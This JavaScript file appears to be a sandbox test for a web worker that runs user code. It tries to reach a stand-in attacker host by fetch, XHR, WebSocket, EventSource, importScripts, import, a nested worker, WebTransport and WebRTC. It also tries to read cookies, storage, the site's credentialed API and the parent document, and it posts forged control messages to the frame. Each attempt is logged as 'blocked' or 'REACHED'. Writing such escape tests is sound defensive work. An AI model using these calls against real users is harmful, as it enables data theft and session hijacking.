// Tries to reach what must be out of reach; runs as a program in the JavaScript worker. ATTACKER, STUN: the attacker's addresses,
// SITE: the site's own. Prints one line a try: its name and "blocked", or "REACHED" with what came of it.
const tries = {
  fetch: () => fetch(`${ATTACKER}/fetch`, { mode: 'no-cors' }),
  'fetch-keepalive': () => fetch(`${ATTACKER}/fetch-keepalive`, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
  'fetch-api': () => fetch(`${SITE}/api/rooms`, { credentials: 'include', mode: 'no-cors' }),
  xhr: () =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest()
      request.onload = resolve
      request.onerror = () => reject(new Error('error'))
      request.open('GET', `${ATTACKER}/xhr`)
      request.send()
    }),
  'xhr-sync': () => {
    const request = new XMLHttpRequest()
    request.open('GET', `${ATTACKER}/xhr-sync`, false)
    request.send()
  },
  websocket: () =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`${ATTACKER.replace('http', 'ws')}/websocket`)
      socket.onopen = resolve
      socket.onerror = () => reject(new Error('error'))
    }),
  eventsource: () =>
    new Promise((resolve, reject) => {
      const source = new EventSource(`${ATTACKER}/eventsource`)
      source.onopen = resolve
      source.onerror = () => (source.close(), reject(new Error('error')))
    }),
  importscripts: () => importScripts(`${ATTACKER}/importscripts`),
  import: () => import(`${ATTACKER}/import`),
  'worker-that-fetches': () => {
    const code = `fetch('${ATTACKER}/worker-that-fetches', {mode: 'no-cors'}).then(() => postMessage('REACHED'), () => postMessage('blocked'))`
    const worker = new Worker(URL.createObjectURL(new Blob([code])))
    return new Promise((resolve, reject) => {
      worker.onmessage = ({ data }) => (data === 'REACHED' ? resolve() : reject(new Error('blocked')))
    })
  },
  webtransport: () => new WebTransport(`https://127.0.0.1:${new URL(ATTACKER).port}/webtransport`).ready,
  rtc: () => new RTCPeerConnection({ iceServers: [{ urls: STUN }] }).createOffer(),
  indexeddb: () =>
    new Promise((resolve, reject) => {
      const request = indexedDB.open('x')
      request.onsuccess = resolve
      request.onerror = () => reject(request.error)
    }),
  caches: () => caches.open('fourhands-runner'),
  files: () => navigator.storage.getDirectory(),
  localstorage: () => localStorage.getItem('x'),
  cookies: () => document.cookie,
  cookiestore: () => cookieStore.getAll(),
  document: () => parent.document.body.innerHTML,
  eval: () => (0, eval)('1'),
}
for (const [name, attempt] of Object.entries(tries)) {
  try {
    const result = await Promise.race([Promise.resolve(attempt()), new Promise((_, no) => setTimeout(() => no(new Error('no answer')), 1500))])
    console.log(name, 'REACHED', String(result).slice(0, 40))
  } catch (error) {
    console.log(name, 'blocked')
  }
}
// What a worker says is a claim: words that the frame does not know go nowhere.
for (const t of ['hello', 'init', 'fetch', 'navigate', 'ready', 'running', 'failed']) postMessage({ t, url: `${ATTACKER}/forged`, assets: {}, message: 'forged' })
postMessage('port')
postMessage(null)
console.log('done')
